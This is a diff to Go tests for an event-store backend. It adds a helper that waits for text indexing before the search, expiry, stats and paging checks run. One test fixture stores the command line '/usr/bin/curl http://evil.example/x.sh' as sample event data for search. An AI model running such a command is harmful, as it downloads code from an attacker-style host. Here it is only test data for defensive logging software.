@@ -32,6 +32,12 @@ func insert(t *testing.T, b Backend, evs ...eventstore.Stored) []eventstore.Inse
 	return res
 }
 
+// indexed waits until the events inserted so far are searchable by text.
+func indexed(t *testing.T, b Backend) {
+	t.Helper()
+	must(t, b.WaitIndexed(ctx(t)))
+}
+
 func search(t *testing.T, b Backend, q eventstore.Query) []eventstore.Record {
 	t.Helper()
 	rs, err := b.Search(ctx(t), q)
@@ -172,6 +178,7 @@ var eventTests = []test{
 			evs = append(evs, ev("a1", 1, uint64(i+1), "h", t0.Add(time.Duration(i)*time.Hour), procCat, "Token", fmt.Sprintf("zeta%d common", i)))
 		}
 		insert(t, b, evs...)
+		indexed(t, b)
 		now := t0.Add(10 * time.Hour)
 		// Keep events from the last 4 hours: hours 6..9 (hour 6 is exactly 4 h old and kept).
 		n, err := b.Expire(ctx(t), eventstore.Retention{MaxAge: 4 * time.Hour}, now)
@@ -210,6 +217,7 @@ var eventTests = []test{
 				"Payload", fmt.Sprintf("row%d %0200d", i, i)))
 		}
 		insert(t, b, evs...)
+		indexed(t, b)
 		count, total, err := b.Stats(ctx(t))
 		must(t, err)
 		if count != 20 || total < 20*200 {
@@ -286,6 +294,7 @@ func searchText(t *testing.T, b Backend) {
 		ev("a1", 1, 3, "h", t0.Add(2*time.Second), procCat, "CommandLine", `near(x) NEAR( y`, "Note", "Straße Überweisung"),
 		ev("a1", 1, 4, "h", t0.Add(3*time.Second), procCat, "CommandLine", `/usr/bin/curl http://evil.example/x.sh`),
 	)
+	indexed(t, b)
 	id := func(i int) int64 { return res[i].ID }
 	for _, tc := range []struct {
 		text string
@@ -341,6 +350,7 @@ func searchFields(t *testing.T, b Backend) {
 		ev("a1", 1, 3, "h", t0.Add(2*time.Second), procCat, "ParentImage", `C:\Windows\System32\cmd.exe`, "User", "alice"),
 		ev("a1", 1, 4, "h", t0.Add(3*time.Second), procCat, "Data", "x", "Data", "***", "Data", ""),
 	)
+	indexed(t, b)
 	id := func(i int) int64 { return res[i].ID }
 	f := func(kv ...string) []eventstore.FieldFilter {
 		var out []eventstore.FieldFilter
@@ -388,6 +398,7 @@ func searchPaging(t *testing.T, b Backend) {
 		evs = append(evs, ev("a1", 1, uint64(i+1), "h", t0.Add(time.Duration(i/2)*time.Second), cat, "Word", "page"))
 	}
 	insert(t, b, evs...)
+	indexed(t, b)
 	for _, q := range []eventstore.Query{
 		{Limit: 4},
 		{Limit: 4, Category: "process_creation"},
